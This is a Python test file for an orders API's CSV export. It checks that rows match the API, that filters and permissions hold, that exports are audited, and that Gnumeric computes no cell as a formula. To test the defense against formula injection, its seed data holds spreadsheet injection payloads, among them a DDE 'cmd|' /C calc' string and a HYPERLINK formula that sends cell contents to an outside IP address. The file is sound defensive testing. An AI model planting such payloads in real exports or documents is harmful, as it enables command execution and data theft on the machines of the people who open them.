"""The export of orders: the rows of the API, and no cell that a spreadsheet would run. Read by Python and Gnumeric."""

import asyncio
import csv
import io
import os
import random
import secrets
import shutil
import subprocess
import urllib.parse
import xml.etree.ElementTree as ElementTree

import pytest

from desk_load import add_people
from harness import API
from topology import make_desk
from wire import Wire, all_orders, run

COUNT = 3001
SEED = 4
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What people type, and what people type who mean ill. An item is one line; notes and reasons may have several.
STARTS = ["=", "+", "-", "@", "==", "=-", "'", "''", "'=", '"', '""', ",", ";", "|", "%", "é", "€", "𝒳", "שלום", "x",
          "\u00ad=", "＝"]
RESTS = [
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://198.51.100.7/?"&A1,"x")', "a,b", 'say "hi"', "it's",
    "O'Neil", "a;b", "back\\slash", "<b>&amp;", "日本語", "👩‍👩‍👧", "e\u0301", "zero\u200bwidth", "non\u00a0breaking", "'", '"', ",",
    '","', "x",
]
LINES = ["one\ntwo", "\n=1+1", "a\tb", "\n\n", '"\n"', ",\n", "x\n'=1", "last"]
#: Tells a spreadsheet that guesses the separator from the first line that begins with a quote that it is `+`.
TRICK = 'x\n"1+1\n=1+1'
TEXTS = ("item_name", "notes", "decision_reason")


def nasty(rng, most=1):
    parts = RESTS + (LINES if most > 1 else [])
    return rng.choice(STARTS) + "".join(rng.choice(parts) for _ in range(rng.randint(1, most)))


async def fill(server, admin, tokens):
    """Orders of two people, some of them decided, some cancelled."""
    rng = random.Random(SEED)

    async def one(name, token):
        own, approver = Wire(server, token), Wire(server, admin.client.token)
        for number in range((COUNT - 1) // len(tokens)):
            item = f"{nasty(rng)} {number}" if number >= len(STARTS) * len(RESTS) else every_pair(number)
            order = {"item_name": item, "quantity": rng.randint(1, 100), "notes": nasty(rng, 4)}
            reply = await own.post("/api/v1/orders", order)
            assert reply.status == 201, reply.body
            order, status = reply.json, rng.choice(["pending", "approved", "rejected", "cancelled"])
            if status == "pending":
                continue
            change = {"status": status, "version": 1} | ({} if status == "cancelled" else {"reason": nasty(rng, 2)})
            reply = await (own if status == "cancelled" else approver).patch(f"/api/v1/orders/{order['id']}", change)
            assert reply.status == 200, reply.body
        own.close()
        approver.close()

    await asyncio.gather(*(one(name, token) for name, token in tokens.items()))
    newest = {"item_name": "Trick", "quantity": 1, "notes": TRICK}
    assert (await Wire(server, tokens["anna"]).post("/api/v1/orders", newest)).status == 201


def every_pair(number):
    return STARTS[number % len(STARTS)] + RESTS[number // len(STARTS)]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """One for all of these: they only read."""
    server = make_desk(tmp_path_factory.mktemp("csv"), LIMITS_REQUESTS_PER_PRINCIPAL="off").start()
    try:
        admin, password = API(server).log_in(server.admin, server.admin_password), secrets.token_urlsafe(18)
        run(fill(server, admin, add_people(server, admin, password, ["anna", "bela"])))
        yield server
        server.stop()
    finally:
        server.kill()


def from_api(server, admin, query=""):
    async def ask():
        wire = Wire(server, admin.client.token)
        try:
            return await all_orders(wire, query)
        finally:
            wire.close()

    return run(ask())


def export(admin, **query):
    answer = admin.client.get("/api/v1/orders/export.csv?" + urllib.parse.urlencode(query))
    assert answer.status == 200, answer.text
    return answer


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def row_of(order):
    """An order as a row, before anything is guarded."""
    who = (order["decided_by"] or {}).get("username")
    return [str(value if value is not None else "") for value in (
        order["id"], order["created_at"], order["username"], order["item_name"], order["quantity"], order["notes"],
        order["status"], who, order["decided_at"], order["decision_reason"], order["updated_at"], order["version"],
        order["user_id"])]


def guarded(cell):
    return f"'{cell}" if cell.startswith(FORMULA_STARTS) else cell


def unguarded(cell):
    return cell[1:] if cell[:1] == "'" and cell[1:].startswith(FORMULA_STARTS) else cell


def spreadsheet(folder, text):
    """What Gnumeric makes of a file: its cells as text, and those that are formulas, each by row and column."""
    program = shutil.which("ssconvert")
    assert program, "no ssconvert found: run `scripts/setup test`"
    source, result = folder / "orders.csv", folder / "orders.xml"
    source.write_bytes(text.encode())
    subprocess.run(
        [program, "--import-type=Gnumeric_stf:stf_csvtab", "-T", "Gnumeric_XmlIO:sax:0", source, result],
        check=True, capture_output=True, timeout=120,
        env={"PATH": os.environ["PATH"], "HOME": str(folder), "LC_ALL": "C.UTF-8"})
    texts, formulas = {}, {}
    for cell in ElementTree.parse(result).iterfind(".//{*}Sheets/{*}Sheet/{*}Cells/{*}Cell"):
        place = int(cell.get("Row")), int(cell.get("Col"))
        # Only what is computed has no type of its own; Gnumeric writes the expression then.
        (formulas if cell.get("ValueType") is None else texts)[place] = cell.text or ""
    return texts, formulas


def test_the_rows_are_those_of_the_api(server, admin):
    answer = export(admin)
    assert answer.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    header, *rows = rows_of(answer.text)
    assert header == [
        "id", "created_at", "username", "item_name", "quantity", "notes", "status", "decided_by", "decided_at",
        "decision_reason", "updated_at", "version", "user_id"]
    orders = from_api(server, admin)
    assert len(orders) == COUNT
    assert {order["status"] for order in orders} == {"pending", "approved", "rejected", "cancelled"}
    assert rows == [list(map(guarded, row_of(order))) for order in orders]
    assert any(cell.startswith("'=") for row in rows for cell in row)
    assert answer.text.endswith("\r\n") and not answer.text.startswith("\ufeff")


def test_no_cell_is_run_by_a_spreadsheet(server, admin, tmp_path):
    text = export(admin).text
    header, *rows = rows_of(text)
    texts, formulas = spreadsheet(tmp_path, text)
    assert formulas == {}
    for number, order in enumerate(from_api(server, admin), 1):
        for name in TEXTS:
            wanted = order[name] or ""
            # An apostrophe at the beginning says "a text" to a spreadsheet, whoever wrote it.
            shown = wanted[1:] if wanted.startswith("'") else wanted
            assert texts.get((number, header.index(name)), "") == shown, f"row {number}, {name}: {wanted!r}"

    # The proof that this looks at the right thing: without the guard the same cells are computed.
    bare = io.StringIO(newline="")
    csv.writer(bare, quoting=csv.QUOTE_ALL).writerows([header, *(map(unguarded, row) for row in rows)])
    _, formulas = spreadsheet(tmp_path, bare.getvalue())
    columns = {header[column] for _, column in formulas}
    assert columns == set(TEXTS), f"computed without the guard: {columns}"
    assert "=1+1" in formulas.values()


@pytest.mark.parametrize("status", ["", "pending", "cancelled"])
@pytest.mark.parametrize("others", [{}, {"username": "anna"}, {"search": "sum("}, {"search": 'say "'}], ids=str)
def test_filters_are_honoured(server, admin, status, others):
    query = others | ({"status": status} if status else {})
    orders = from_api(server, admin, "&" + urllib.parse.urlencode(query))
    if query:
        assert 0 < len(orders) < COUNT
    assert [row[0] for row in rows_of(export(admin, **query).text)[1:]] == [order["id"] for order in orders]


def test_only_part_of_the_time_and_only_one_person(server, admin):
    orders = from_api(server, admin)
    begin, end = orders[2000]["created_at"], orders[1000]["created_at"]
    person = orders[1500]["user_id"]
    wanted = [order["id"] for order in orders if begin <= order["created_at"] and order["user_id"] == person]
    found = rows_of(export(admin, **{"from": begin, "user_id": person}).text)[1:]
    assert [row[0] for row in found] == wanted
    found = rows_of(export(admin, **{"from": begin, "to": end}).text)[1:]
    page = from_api(server, admin, "&" + urllib.parse.urlencode({"from": begin, "to": end}))
    assert 900 < len(found) < 1100
    assert [row[0] for row in found] == [order["id"] for order in page]


def test_nobody_exports_the_orders_of_others_and_each_export_is_on_record(server, admin, password):
    api = API(server)
    api.register("requester", password)
    answer = api.log_in("requester", password).client.get("/api/v1/orders/export.csv")
    assert (answer.status, answer.json["code"]) == (403, "auth.forbidden"), answer.text
    before = len(admin.audit(action="orders.export"))
    export(admin, status="pending")
    events = admin.audit(action="orders.export")
    assert len(events) == before + 1
    assert (events[0]["actor"]["username"], events[0]["outcome"]) == (server.admin, "success")
    assert events[0]["changes"]["status"]["to"] == "pending"
